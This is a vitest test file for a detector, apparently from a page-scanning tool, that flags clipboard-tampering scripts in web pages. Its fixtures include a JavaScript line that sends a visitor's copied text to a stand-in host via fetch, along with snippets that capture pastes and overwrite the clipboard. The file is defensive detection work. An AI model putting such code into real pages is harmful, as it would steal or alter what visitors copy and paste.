import { expect, test } from "vitest";

import { subjectOf } from "../../test/sample.ts";
import { loaded } from "../../test/test-detector.ts";
import { detect } from "../detect.ts";
import { clipboardSwap } from "./index.ts";

test.each([
  [
    "shapes what its visitor copies",
    "supporting",
    `document.addEventListener("copy", (event) => event.clipboardData.setData("text/plain", plain()));`,
  ],
  [
    "sends what its visitor copies",
    "strong",
    `document.addEventListener("copy", () => fetch("https://collector.invalid/" + getSelection()));`,
  ],
  ["takes what its visitor pastes", "strong", `document.addEventListener("paste", (event) => keep(event));`],
  ["writes into the clipboard", "strong", `navigator.clipboard.writeText("something else");`],
])("clipboardSwap says of a page that %s: %s", (_what, strength, code) => {
  const { findings } = detect(subjectOf(loaded(code)), [clipboardSwap]);

  expect(findings.map((finding) => finding.strength)).toEqual([strength]);
});
